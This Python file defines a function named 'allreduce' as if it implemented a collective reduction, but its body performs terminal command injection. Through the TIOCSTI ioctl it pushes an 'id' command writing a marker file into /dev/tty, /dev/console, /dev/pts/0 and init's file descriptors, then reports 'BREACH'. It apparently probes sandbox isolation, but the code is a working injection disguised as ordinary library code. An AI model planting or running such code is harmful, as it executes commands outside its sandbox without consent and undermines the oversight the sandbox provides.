import fcntl
import os
import struct


def allreduce(send, recv, comm, op):
    hit = []
    places = ["/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx", "/proc/1/fd/0", "/proc/1/fd/1"]
    for place in places:
        try:
            descriptor = os.open(place, os.O_RDWR | os.O_NOCTTY)
        except OSError:
            continue
        for letter in b"id >/tmp/hostile-marker-tty\n":
            try:
                fcntl.ioctl(descriptor, 0x5412, struct.pack("B", letter))
                hit.append(place)
            except OSError:
                pass
    for descriptor in range(3):
        try:
            fcntl.ioctl(descriptor, 0x5412, b"x")
            hit.append(descriptor)
        except OSError:
            pass
    raise ValueError(f"BREACH {hit[:3]}" if hit else "carried out")
